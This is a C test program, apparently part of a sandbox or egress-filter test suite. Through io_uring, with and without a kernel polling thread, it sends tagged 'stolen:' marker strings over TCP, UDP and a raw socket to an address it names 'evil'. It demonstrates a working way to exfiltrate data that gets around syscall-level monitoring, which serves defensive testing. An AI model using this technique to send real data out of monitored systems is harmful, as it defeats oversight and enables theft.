// SPDX-License-Identifier: BSD-2-Clause
/*
 * io_uring ADDRESS PORT ROUND: sends by io_uring what attacker.py's loot() makes: TCP by connect and send,
 * UDP by sendmsg, both once more with a kernel thread that submits (SQPOLL), and a raw socket made by
 * io_uring where the kernel can. Says what became of each; 77 where there is no io_uring.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define ENTRIES     8
#define EXIT_SKIP   77
#define OP_SOCKET   45  /* IORING_OP_SOCKET, Linux 5.19; older headers do not have it */
#define IDLE_MS     500 /* how long the kernel's thread waits for more before it sleeps */
#define LOOT_LENGTH 80

/* struct ring - one io_uring and where its parts are mapped */
struct ring {
	int fd;
	bool polled;
	char *sq;
	char *cq;
	struct io_uring_sqe *sqes;
	struct io_uring_params params;
};

static struct sockaddr_in evil;
static const char *round_name;

static void *map(const struct ring *ring, size_t size, off_t offset)
{
	void *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, offset);

	if (at == MAP_FAILED) {
		perror("mmap");
		exit(1);
	}
	return at;
}

static int ring_init(struct ring *ring, bool polled)
{
	memset(ring, 0, sizeof(*ring));
	ring->polled = polled;
	ring->params.flags = polled ? IORING_SETUP_SQPOLL : 0;
	ring->params.sq_thread_idle = IDLE_MS;
	ring->fd = syscall(SYS_io_uring_setup, ENTRIES, &ring->params);
	if (ring->fd < 0)
		return -errno;

	ring->sq =
		map(ring, ring->params.sq_off.array + ENTRIES * sizeof(__u32), IORING_OFF_SQ_RING);
	ring->cq = map(ring, ring->params.cq_off.cqes + 2 * ENTRIES * sizeof(struct io_uring_cqe),
		       IORING_OFF_CQ_RING);
	ring->sqes = map(ring, ENTRIES * sizeof(struct io_uring_sqe), IORING_OFF_SQES);
	return 0;
}

static __u32 *sq(const struct ring *ring, __u32 offset)
{
	return (__u32 *)(ring->sq + offset);
}

static __u32 *cq(const struct ring *ring, __u32 offset)
{
	return (__u32 *)(ring->cq + offset);
}

/* One operation, and its result. */
static int ring_do(struct ring *ring, const struct io_uring_sqe *sqe)
{
	const struct io_sqring_offsets *sq_off = &ring->params.sq_off;
	const struct io_cqring_offsets *cq_off = &ring->params.cq_off;
	__u32 tail = *sq(ring, sq_off->tail);
	__u32 index = tail & *sq(ring, sq_off->ring_mask);
	__u32 flags = IORING_ENTER_GETEVENTS | (ring->polled ? IORING_ENTER_SQ_WAKEUP : 0);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(ring->cq + cq_off->cqes);
	__u32 head;
	int result;

	ring->sqes[index] = *sqe;
	sq(ring, sq_off->array)[index] = index;
	__atomic_store_n(sq(ring, sq_off->tail), tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, flags, NULL, 0) < 0)
		return -errno;

	head = *cq(ring, cq_off->head);
	while (__atomic_load_n(cq(ring, cq_off->tail), __ATOMIC_ACQUIRE) == head)
		usleep(1000);
	result = cqes[head & *cq(ring, cq_off->ring_mask)].res;
	__atomic_store_n(cq(ring, cq_off->head), head + 1, __ATOMIC_RELEASE);
	return result;
}

static void say(const struct ring *ring, const char *what, int result)
{
	printf("%s%s: %s\n", what, ring->polled ? ", by the kernel's thread" : "",
	       result < 0 ? strerror(-result) : "done");
}

static size_t loot(const struct ring *ring, const char *tag, char ret[LOOT_LENGTH])
{
	return snprintf(ret, LOOT_LENGTH, "stolen:%s%s:%s;", tag, ring->polled ? "-polled" : "",
			round_name);
}

static void try_tcp(struct ring *ring)
{
	int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct io_uring_sqe sqe = {.opcode = IORING_OP_CONNECT, .fd = sock};
	char data[LOOT_LENGTH];
	int result;

	sqe.addr = (__u64)(unsigned long)&evil;
	sqe.off = sizeof(evil);
	result = ring_do(ring, &sqe);
	say(ring, "connect", result);
	if (result == 0) {
		sqe = (struct io_uring_sqe){.opcode = IORING_OP_SEND, .fd = sock};
		sqe.len = loot(ring, "tcp", data);
		sqe.addr = (__u64)(unsigned long)data;
		say(ring, "send", ring_do(ring, &sqe));
	}
	close(sock);
}

static void try_udp(struct ring *ring)
{
	int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	char data[LOOT_LENGTH];
	struct iovec part = {.iov_base = data, .iov_len = loot(ring, "udp", data)};
	struct msghdr message = {
		.msg_name = &evil, .msg_namelen = sizeof(evil), .msg_iov = &part, .msg_iovlen = 1};
	struct io_uring_sqe sqe = {.opcode = IORING_OP_SENDMSG, .fd = sock, .len = 1};

	sqe.addr = (__u64)(unsigned long)&message;
	say(ring, "sendmsg", ring_do(ring, &sqe));
	close(sock);
}

/* The kernel writes the IP header of a raw socket of an unused protocol. */
static void try_raw(struct ring *ring)
{
	struct io_uring_sqe sqe = {.opcode = OP_SOCKET, .fd = AF_INET, .off = SOCK_RAW, .len = 253};
	char data[LOOT_LENGTH];
	size_t size = loot(ring, "raw", data);
	int sock = ring_do(ring, &sqe);

	say(ring, "raw socket", sock);
	if (sock < 0)
		return;
	if (sendto(sock, data, size, 0, (struct sockaddr *)&evil, sizeof(evil)) < 0)
		perror("raw");
	close(sock);
}

int main(int argc, char **argv)
{
	if (argc != 4 || inet_pton(AF_INET, argv[1], &evil.sin_addr) != 1)
		return 2;
	evil.sin_family = AF_INET;
	evil.sin_port = htons(atoi(argv[2]));
	round_name = argv[3];

	for (int polled = 0; polled < 2; polled++) {
		struct ring ring;
		int r = ring_init(&ring, polled);

		if (r < 0) {
			printf("SKIP: no io_uring here: %s\n", strerror(-r));
			return EXIT_SKIP;
		}
		try_tcp(&ring);
		try_udp(&ring);
		try_raw(&ring);
		close(ring.fd);
	}
	return 0;
}
